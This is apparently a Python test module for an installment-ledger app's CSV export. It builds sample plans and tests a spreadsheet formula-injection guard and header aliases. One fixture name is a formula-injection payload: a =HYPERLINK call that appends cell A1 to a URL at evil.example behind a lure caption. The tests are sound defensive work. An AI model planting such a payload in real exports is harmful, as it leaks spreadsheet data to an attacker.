"""The sample ledger every export/import test uses, and the formula guard and header rules.

``build_sample(db)`` stores six plans and their payments through the services, so the golden
files in ``golden/`` show real schedules: Chinese names, a name that looks like a spreadsheet
formula (``=HYPERLINK(...)``), notes starting with ``-``/``+``/``@``/``=``, every schedule model
but annuity, a USD and a JPY plan, an archived plan, a voided payment, a partial payment and a plan
closed by an early payoff. "Today" is 2024-05-10.

Golden files: run ``UPDATE_GOLDEN=1 uv run pytest tests/reports`` to (re)write them, then read
the diff by eye before committing; without the variable the tests compare bytes.
"""

from __future__ import annotations

import os
import sqlite3
from contextlib import closing
from datetime import UTC, date, datetime
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from tracker import services as sv
from tracker.domain.payoff import PayoffPolicy
from tracker.domain.plan import FeeMode, Model, PlanTerms
from tracker.reports.csv_columns import COLUMNS, aliases, header_key, neutralise, restore
from tracker.storage.engine import Database

TODAY = date(2024, 5, 10)
STAMP = datetime(2024, 5, 10, 8, 30, tzinfo=UTC)
GOLDEN = Path(__file__).parent / "golden"
MALFORMED = Path(__file__).parent / "malformed"
FORMULA_NAME = '=HYPERLINK("http://evil.example/?q="&A1,"点我领红包")'


def _plan(db: Database, name: str, terms: PlanTerms, **extra: Any) -> int:
    change = sv.add_plan(db, sv.PlanInput(name=name, terms=terms, **extra))
    assert change.created_id is not None
    return change.created_id


def build_sample(db: Database) -> dict[str, int]:
    """Store the sample ledger, every write dated TODAY (the calendar feed's revisions count
    from the date of each write); return the plan ids by a short label."""
    db.today = lambda: TODAY
    ids = {
        "xiaomi": _plan(
            db,
            "小米14 Pro",
            PlanTerms(Model.FLAT, 360000, 12, date(2024, 1, 31), Decimal("0.006")),
            platform="小米分期",
            purchase_date=date(2024, 1, 15),
            notes="-5% off 以旧换新",
            grace_days=3,
            tolerance=1000,
        ),
        "formula": _plan(
            db,
            FORMULA_NAME,
            PlanTerms(Model.TOTAL, 100000, 6, date(2024, 2, 15), Decimal("0.045")),
            platform="花呗",
            notes="+86 138 0000 0000",
        ),
        "loan": _plan(
            db,
            "装修贷",
            PlanTerms(
                Model.EQUAL_PRINCIPAL,
                1000000,
                12,
                date(2024, 3, 10),
                Decimal("0.12"),
                upfront_fee=5000,
                down_payment=100000,
            ),
            platform="招商银行",
            penalty_daily_rate=Decimal("0.0005"),
            payoff_policy=PayoffPolicy.PENALTY_PCT,
            payoff_penalty_pct=Decimal("0.03"),
        ),
        "custom": _plan(
            db,
            "京东白条 - 空调",
            PlanTerms(
                Model.CUSTOM,
                100000,
                3,
                date(2024, 4, 20),
                custom_amounts=(35000, 34000, 34000),
            ),
            platform="京东白条",
            notes="多行备注\n第二行, 带逗号",
        ),
        "bnpl": _plan(
            db,
            "@家具 sofa",
            PlanTerms(Model.PAY_IN_N, 40001, 4, date(2024, 3, 1)),
            platform="Klarna",
            payoff_policy=PayoffPolicy.CHARGE_ALL_FEES,
        ),
        "jpy": _plan(
            db,
            "Switch 2",
            PlanTerms(Model.INTEREST_FREE, 49980, 3, date(2024, 4, 1), currency="JPY"),
            platform="楽天",
        ),
        "usd": _plan(
            db,
            "MacBook Air",
            PlanTerms(
                Model.FLAT,
                119900,
                6,
                date(2024, 5, 12),
                Decimal("0.005"),
                currency="USD",
                fee_mode=FeeMode.FIRST,
            ),
            platform="Apple Card",
        ),
    }
    pay = [
        ("xiaomi", 32160, date(2024, 1, 30), "支付宝", "+1 积分"),
        ("formula", 17420, date(2024, 2, 15), "花呗", ""),
        ("xiaomi", 32160, date(2024, 2, 29), "微信支付", ""),
        ("bnpl", 10001, date(2024, 3, 1), "Visa", ""),
        ("loan", 93333, date(2024, 3, 10), "银行卡", "@柜台"),
        ("bnpl", None, date(2024, 3, 20), "Visa", "提前结清"),
        ("xiaomi", 10000, date(2024, 3, 31), "银行卡", "=1+1"),
        ("jpy", 16660, date(2024, 4, 1), "现金", ""),
        ("formula", 17416, date(2024, 4, 2), "花呗", "输错了"),
    ]
    for label, amount, on, method, note in pay:
        if amount is None:
            sv.pay_off(db, ids[label], on, TODAY, method, note)
        else:
            sv.record_payment(db, ids[label], amount, on, TODAY, method, note)
    voided = sv.history(db, ids["formula"])[-1]
    sv.void_payment(db, voided.id, TODAY)
    sv.set_archived(db, ids["custom"])
    return ids


def snapshot(path: Path) -> dict[str, list[tuple[Any, ...]]]:
    """Every row of every ledger table, read straight from the file."""
    with closing(sqlite3.connect(path)) as con:
        return {
            t: con.execute(f"SELECT * FROM {t} ORDER BY id").fetchall()
            for t in ("plans", "installments", "payments")
        }


def check_golden(name: str, data: bytes) -> None:
    """Compare ``data`` with ``golden/<name>`` byte for byte (or rewrite it: UPDATE_GOLDEN=1)."""
    path = GOLDEN / name
    if os.environ.get("UPDATE_GOLDEN"):
        path.parent.mkdir(exist_ok=True)
        path.write_bytes(data)
    assert path.is_file(), f"{path} is missing; run UPDATE_GOLDEN=1 uv run pytest tests/reports"
    expected = path.read_bytes()
    if data != expected:
        got, want = data.decode("utf-8").splitlines(), expected.decode("utf-8").splitlines()
        diff = [
            f"line {i + 1}:\n  got  {g!r}\n  want {w!r}"
            for i, (g, w) in enumerate(zip(got, want, strict=False))
            if g != w
        ]
        pytest.fail(f"{name} differs from the golden file:\n" + "\n".join(diff[:10]))


# -- the formula guard --------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("text", "guarded"),
    [
        ("=1+1", "'=1+1"),
        ("+86 138", "'+86 138"),
        ("-5% off", "'-5% off"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),
        ("''-x", "'''-x"),
        ("'quoted'", "'quoted'"),
        ("小米14", "小米14"),
        ("a=b", "a=b"),
        ("", ""),
        (" =x", " =x"),
    ],
)
def test_neutralise_and_restore(text: str, guarded: str) -> None:
    assert neutralise(text) == guarded
    assert restore(guarded) == text


@given(st.text(alphabet=st.sampled_from("'=+-@\t\rab1 小"), max_size=8))
def test_restore_undoes_neutralise_for_every_text(text: str) -> None:
    assert restore(neutralise(text)) == text
    guarded = neutralise(text)
    assert guarded[:1] not in ("=", "+", "-", "@", "\t", "\r")


def test_every_column_has_a_distinct_chinese_alias() -> None:
    for kind, columns in COLUMNS.items():
        zh = [c.zh for c in columns]
        assert all(zh) and len(set(zh)) == len(zh), kind
        names = aliases(kind)
        for col in columns:
            assert names[header_key(col.key)] == col.key
            assert names[header_key(col.zh)] == col.key


@pytest.mark.parametrize(
    ("header", "key"),
    [
        (" Plan_ID ", "plan_id"),
        ("费率(%)", "rate_pct"),
        ("费率（%）", "rate_pct"),
        ("RATE", "rate_pct"),
    ],
)
def test_headers_match_loosely(header: str, key: str) -> None:
    kind = "payments" if key == "plan_id" else "plans"
    assert aliases(kind)[header_key(header)] == key
